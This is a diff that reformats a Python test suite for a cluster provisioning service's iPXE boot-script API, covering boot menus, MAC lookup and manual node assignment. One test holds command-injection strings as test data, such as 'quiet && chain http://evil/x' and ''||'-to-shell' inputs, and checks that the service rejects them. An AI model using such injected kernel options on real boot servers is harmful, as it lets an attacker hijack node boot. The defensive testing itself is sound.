@@ -17,11 +17,15 @@ from tests.support import env, load_store, result_of
 BASE = "http://127.0.0.1:80"
 
 
-def spec_args(node: str = "node001", ip: str = "10.141.0.1", mac: str = MAC, options: str = "") -> str:
+def spec_args(
+    node: str = "node001", ip: str = "10.141.0.1", mac: str = MAC, options: str = ""
+) -> str:
     """The spec's imgargs line for a node of the sample cluster."""
-    return (f"imgargs kernel root=luna luna.bootproto=static luna.mac={mac} luna.ip={ip}/16 "
-            f"luna.url={BASE} luna.node={node} luna.hostname={node}.cluster luna.service=0 {options} "
-            "initrd=initrd.img")
+    return (
+        f"imgargs kernel root=luna luna.bootproto=static luna.mac={mac} luna.ip={ip}/16 "
+        f"luna.url={BASE} luna.node={node} luna.hostname={node}.cluster luna.service=0 {options} "
+        "initrd=initrd.img"
+    )
 
 
 class MenuTests(unittest.TestCase):
@@ -62,7 +66,10 @@ class MenuTests(unittest.TestCase):
         self.assertIn("menu luna2d network boot", self.api.script("/boot"))  # unknown: row 4
         self.api.on_loopback("node001")
         cases = [
-            ({"bootmenu": False, "netboot": True}, "straight to this node's own boot script"),  # row 1
+            (
+                {"bootmenu": False, "netboot": True},
+                "straight to this node's own boot script",
+            ),  # row 1
             ({"bootmenu": True, "netboot": True}, "menu luna2d network boot"),  # row 2
             ({"bootmenu": False, "netboot": False}, "sanboot --no-describe"),  # row 3
             ({"bootmenu": True, "netboot": False}, "sanboot --no-describe"),  # row 3, any bootmenu
@@ -99,16 +106,27 @@ class SearchTests(unittest.TestCase):
         self.assertIn(spec_args(), lines)
         self.assertIn(f"imgfetch --name initrd.img {BASE}/files/{INITRD} || goto failed", lines)
         self.assertIn("imgexec kernel || goto failed", lines)
-        order = [next(i for i, line in enumerate(lines) if line.startswith(word))
-                 for word in ("imgfetch --name kernel", "imgload", "imgargs", "imgfetch --name initrd", "imgexec")]
+        order = [
+            next(i for i, line in enumerate(lines) if line.startswith(word))
+            for word in (
+                "imgfetch --name kernel",
+                "imgload",
+                "imgargs",
+                "imgfetch --name initrd",
+                "imgexec",
+            )
+        ]
         self.assertEqual(order, sorted(order))
 
     def test_both_search_paths_and_mac_spellings(self) -> None:
         """/boot/search/<mac> (the spec's) and /boot/search/mac/<mac> give
         the same script, for the MAC in any case and with dashes."""
         expected = self.api.script(f"/boot/search/mac/{MAC}")
-        for path in (f"/boot/search/{MAC}", f"/boot/search/{MAC.upper()}",
-                     f"/boot/search/mac/{MAC.replace(':', '-')}"):
+        for path in (
+            f"/boot/search/{MAC}",
+            f"/boot/search/{MAC.upper()}",
+            f"/boot/search/mac/{MAC.replace(':', '-')}",
+        ):
             self.assertEqual(self.api.script(path), expected, path)
 
     def test_kernel_options_service_domain(self) -> None:
@@ -117,8 +135,11 @@ class SearchTests(unittest.TestCase):
         self.api.update("osimage", "compute", {"kerneloptions": "console=ttyS0 quiet"})
         self.api.update("node", "node001", {"service": True, "domain": "hpc.example"})
         body = self.api.script(f"/boot/search/mac/{MAC}")
-        self.assertIn(" luna.hostname=node001.hpc.example luna.service=1 console=ttyS0 quiet "
-                      "initrd=initrd.img\n", body)
+        self.assertIn(
+            " luna.hostname=node001.hpc.example luna.service=1 console=ttyS0 quiet "
+            "initrd=initrd.img\n",
+            body,
+        )
 
     def test_kernel_options_cannot_chain_commands(self) -> None:
         """Kernel options land on iPXE's imgargs line, where ``||`` or
@@ -126,10 +147,16 @@ class SearchTests(unittest.TestCase):
         ``${...}`` expand a setting: such options, or a line break, are 400
         naming the field; options stored before this rule (written to the
         database directly) give the noboot script instead of the imgargs line."""
-        for bad in ("console=ttyS0 || shell", "quiet && chain http://evil/x", "a ; shell",
-                    "x=${net0/ip}", "console=ttyS0\nimgexec evil"):
-            code, body = self.api.post("/config/osimage/compute", env("osimage", "compute",
-                                                                      {"kerneloptions": bad}))
+        for bad in (
+            "console=ttyS0 || shell",
+            "quiet && chain http://evil/x",
+            "a ; shell",
+            "x=${net0/ip}",
+            "console=ttyS0\nimgexec evil",
+        ):
+            code, body = self.api.post(
+                "/config/osimage/compute", env("osimage", "compute", {"kerneloptions": bad})
+            )
             self.assertEqual(code, 400, bad)
             self.assertIn("kerneloptions", body["message"])
         self.api.update("osimage", "compute", {"kernopts": "a;b console=tty0"})
@@ -147,17 +174,27 @@ class SearchTests(unittest.TestCase):
     def test_node_without_address_boots_by_dhcp(self) -> None:
         """A node whose provisioning interface has no address boots with
         luna.bootproto=dhcp and no luna.ip."""
-        self.api.update("node", "node001", {"provision_interface": "eth9", "interfaces": [
-            {"interface": "eth9", "macaddress": "02:00:00:00:00:09"}]})
+        self.api.update(
+            "node",
+            "node001",
+            {
+                "provision_interface": "eth9",
+                "interfaces": [{"interface": "eth9", "macaddress": "02:00:00:00:00:09"}],
+            },
+        )
         body = self.api.script("/boot/search/mac/02:00:00:00:00:09")
         self.assertIn("luna.bootproto=dhcp luna.mac=02:00:00:00:00:09 luna.url=", body)
         self.assertNotIn("luna.ip=", body)
 
     def test_osimage_tag_files(self) -> None:
         """A node on an osimage tag boots the tag's kernel and initrd."""
-        code, _ = self.api.post("/config/osimage/compute/tag", {"config": {"osimage": {"compute": {"tag": "v1"}}}})
+        code, _ = self.api.post(
+            "/config/osimage/compute/tag", {"config": {"osimage": {"compute": {"tag": "v1"}}}}
+        )
         self.assertEqual(code, 204)  # issue 10: the spec and the CLI want 204
-        self.api.update("osimage", "compute", {"kernelfile": "new-vmlinuz", "initrdfile": "new-initrd"})
+        self.api.update(
+            "osimage", "compute", {"kernelfile": "new-vmlinuz", "initrdfile": "new-initrd"}
+        )
         self.assertIn("/files/new-vmlinuz ", self.api.script(f"/boot/search/mac/{MAC}"))
         self.api.update("node", "node001", {"osimagetag": "v1"})
         body = self.api.script(f"/boot/search/mac/{MAC}")
@@ -191,7 +228,9 @@ class SearchTests(unittest.TestCase):
             self.assertNotIn(name, body)
         self.assertIn("item --key n name Type a node name", body)
         self.assertIn("--default detect luna-choice", body)
-        self.assertIn("chain --replace --autofree ${luna-url}/boot/manual/${luna-choice}/${luna-mac}", body)
+        self.assertIn(
+            "chain --replace --autofree ${luna-url}/boot/manual/${luna-choice}/${luna-mac}", body
+        )
         self.assertIn("set luna-mac aa:bb:cc:dd:ee:ff\n", body)
         self.assertNotIn("imgfetch", body)
 
@@ -199,7 +238,9 @@ class SearchTests(unittest.TestCase):
         """With the cluster's discovery_names on, the menu lists every node
         (whether it has a MAC, never the MAC itself) and every group with its
         count of nodes without a MAC."""
-        code, body = self.api.post("/config/cluster", {"config": {"cluster": {"discovery_names": True}}})
+        code, body = self.api.post(
+            "/config/cluster", {"config": {"cluster": {"discovery_names": True}}}
+        )
         self.assertEqual(code, 204, body)
         body = self.api.script("/boot/search/mac/aa:bb:cc:dd:ee:ff")
         self.assertIn("item hostname/node001 node001 (has a MAC) [compute]", body)
@@ -209,8 +250,11 @@ class SearchTests(unittest.TestCase):
 
     def test_bad_mac_400(self) -> None:
         """A MAC that is not one is a 400 naming it, as JSON."""
-        for path in ("/boot/search/mac/zz:bb:cc:dd:ee:ff", "/boot/search/nonsense",
-                     "/boot/manual/hostname/node001/12345"):
+        for path in (
+            "/boot/search/mac/zz:bb:cc:dd:ee:ff",
+            "/boot/search/nonsense",
+            "/boot/manual/hostname/node001/12345",
+        ):
             code, body, _ = self.api.text(path)
             self.assertEqual(code, 400, path)
             self.assertIn("mac", body["message"])
@@ -219,11 +263,33 @@ class SearchTests(unittest.TestCase):
         """No open boot script carries the BMC password, a node secret or a
         token, whatever the MAC."""
         self.api.update("bmcsetup", "compute", {"password": "bmc-PASSWORD-xyz"})
-        code, _ = self.api.post("/config/secrets/node/node001", {"config": {"secrets": {"node": {"node001": [
-            {"secretname": "key", "content": "SECRET-CONTENT", "path": "/etc/key"}]}}}})
+        code, _ = self.api.post(
+            "/config/secrets/node/node001",
+            {
+                "config": {
+                    "secrets": {
+                        "node": {
+                            "node001": [
+                                {
+                                    "secretname": "key",
+                                    "content": "SECRET-CONTENT",
+                                    "path": "/etc/key",
+                                }
+                            ]
+                        }
+                    }
+                }
+            },
+        )
         self.assertEqual(code, 201)
-        for path in ("/boot", "/boot/short", "/boot/disk", f"/boot/search/mac/{MAC}",
-                     "/boot/search/aa:bb:cc:dd:ee:ff", "/boot/manual/hostname/node001"):
+        for path in (
+            "/boot",
+            "/boot/short",
+            "/boot/disk",
+            f"/boot/search/mac/{MAC}",
+            "/boot/search/aa:bb:cc:dd:ee:ff",
+            "/boot/manual/hostname/node001",
+        ):
             body = self.api.script(path)
             for secret in ("bmc-PASSWORD-xyz", "SECRET-CONTENT", "eyJ"):
                 self.assertNotIn(secret, body, path)
@@ -263,7 +329,9 @@ class ManualTests(unittest.TestCase):
         # The next search by that MAC finds node002.
         self.assertIn("luna.node=node002 ", self.api.script(f"/boot/search/mac/{MAC}"))
         store = self.reopened()
-        boot = {i["interface"]: i["macaddress"] for i in store.show("node", "node002")["interfaces"]}
+        boot = {
+            i["interface"]: i["macaddress"] for i in store.show("node", "node002")["interfaces"]
+        }
         self.assertEqual(boot["BOOTIF"], MAC)
         self.assertIsNone(store.show("node", "node001")["macaddr"])
 
@@ -276,10 +344,12 @@ class ManualTests(unittest.TestCase):
 
     def test_unknown_node_or_group_404(self) -> None:
         """An unknown node or group is a 404 naming it."""
-        for path, name in ((f"/boot/manual/hostname/node999/{MAC}", "node999"),
-                           ("/boot/manual/hostname/node999", "node999"),
-                           (f"/boot/manual/group/nogroup/{MAC}", "nogroup"),
-                           ("/boot/manual/hostname/NODE001", "NODE001")):
+        for path, name in (
+            (f"/boot/manual/hostname/node999/{MAC}", "node999"),
+            ("/boot/manual/hostname/node999", "node999"),
+            (f"/boot/manual/group/nogroup/{MAC}", "nogroup"),
+            ("/boot/manual/hostname/NODE001", "NODE001"),
+        ):
             code, body, _ = self.api.text(path)
             self.assertEqual(code, 404, path)
             self.assertIn(name, body["message"])
@@ -293,16 +363,23 @@ class ManualTests(unittest.TestCase):
         self.assertIn("luna.node=node002 ", body)
         self.assertEqual(self.api.node("node002")["macaddr"], MAC)
         self.assertIn("luna.node=node002 ", self.api.script(f"/boot/manual/group/compute/{MAC}"))
-        self.assertIn("luna.node=node003 ", self.api.script("/boot/manual/group/compute/02:00:00:00:00:03"))
-        self.assertIn("luna.node=node004 ", self.api.script("/boot/manual/group/compute/02:00:00:00:00:04"))
+        self.assertIn(
+            "luna.node=node003 ", self.api.script("/boot/manual/group/compute/02:00:00:00:00:03")
+        )
+        self.assertIn(
+            "luna.node=node004 ", self.api.script("/boot/manual/group/compute/02:00:00:00:00:04")
+        )
         code, body, _ = self.api.text("/boot/manual/group/compute/02:00:00:00:00:05")
         self.assertEqual(code, 400)
         self.assertIn("no node left without a MAC", body["message"])
 
     def test_group_moves_mac_from_another_group(self) -> None:
         """A MAC held by a node of another group moves to the chosen group's node."""
-        self.api.update("group", "other", {"interfaces": [{"interface": "BOOTIF", "network": "cluster"}],
-                                           "mac_reassign": True})
+        self.api.update(
+            "group",
+            "other",
+            {"interfaces": [{"interface": "BOOTIF", "network": "cluster"}], "mac_reassign": True},
+        )
         self.api.update("node", "other01", {"group": "other", "macaddr": MAC})
         self.assertIn("luna.node=node001 ", self.api.script(f"/boot/manual/group/compute/{MAC}"))
         self.assertIsNone(self.api.node("other01")["macaddr"])
